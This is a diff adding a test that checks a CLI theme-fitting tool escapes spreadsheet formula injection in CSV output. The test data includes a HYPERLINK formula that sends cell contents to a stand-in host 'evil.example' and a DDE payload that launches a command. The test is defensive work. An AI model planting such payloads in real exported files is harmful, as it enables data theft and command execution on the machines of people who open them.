@@ -37,3 +37,17 @@ def test_unknown_text_column_is_reported(tmp_path):
     result = CliRunner().invoke(app, ["themes", "fit", "--input", str(path), "--text-column", "nope", "--out", str(tmp_path / "o.csv")])
     assert result.exit_code != 0
     assert "no column 'nope'" in result.output
+
+
+def test_fit_output_escapes_cells_a_spreadsheet_would_run(tmp_path):
+    attacks = ['=HYPERLINK("http://evil.example/?"&A1,"click me")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]
+    docs = planted_documents(per_language=6).select(ticket="document_id", body="text")
+    docs = docs.with_columns(ticket=pl.Series(attacks + docs["ticket"].to_list()[len(attacks):]))
+    path = tmp_path / "in.csv"
+    docs.write_csv(path)
+    result = CliRunner().invoke(app, ["themes", "fit", "--input", str(path), "--text-column", "body", "--id-column", "ticket",
+                                      "--out", str(tmp_path / "o.csv")])
+    assert result.exit_code == 0, result.output
+    out = pl.read_csv(tmp_path / "o.csv", infer_schema=False)
+    assert out["ticket"].to_list()[:3] == ["'" + attack for attack in attacks]
+    assert not any(v.startswith(("=", "+", "-", "@")) for column in ("ticket", "theme_label") for v in out[column].drop_nulls())
